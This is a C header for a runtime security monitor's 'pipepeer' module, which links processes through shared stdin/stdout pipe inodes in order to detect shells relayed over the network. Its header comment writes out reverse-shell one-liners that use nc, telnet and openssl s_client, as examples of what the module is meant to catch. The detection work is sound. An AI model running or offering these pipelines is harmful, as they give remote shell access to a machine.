/* SPDX-License-Identifier: MIT */
/*
 * pipepeer.h - who is at the other end of a process's stdin/stdout pipe.
 *
 * A shell in a pipeline with a network relay (`cat f | sh -i | nc host port
 * > f`, `telnet h p1 | sh | telnet h p2`, `openssl s_client ... | sh`) never
 * has a socket on its own fds: the kernel's view is two pipes whose other
 * ends belong to the relay. Each exec records the pipe inodes of its fd 0/1;
 * a later exec whose stdin pipe is an earlier process's stdout pipe (or the
 * reverse) learns that process as its peer. Pure; bounded ring; the clock is
 * the events' own.
 */
#ifndef RTMON_PIPEPEER_H
#define RTMON_PIPEPEER_H

#include <stdint.h>

#include "event.h"

#define RTMON_PIPEPEER_SLOTS 512
#define RTMON_PIPEPEER_TTL_NS (120ull * 1000000000ull)

struct rtmon_pipepeer_slot {
	uint64_t ino_in, ino_out; /* pipe inodes of fd 0 / fd 1 (0 = not a pipe) */
	uint64_t time_ns;
	uint32_t pid;
	char exe[256];
};

struct rtmon_pipepeers {
	struct rtmon_pipepeer_slot slot[RTMON_PIPEPEER_SLOTS];
	uint32_t next;
};

/*
 * For an exec event with a pipe on fd 0 or 1: fills stdin/stdout peer fields
 * from earlier execs (RTMON_HAS_STDIN_PEER / _STDOUT_PEER) and remembers this
 * process for later ones. Other events are left alone.
 */
void pipepeer_exec(struct rtmon_pipepeers *pp, struct rtmon_event *ev);

#endif
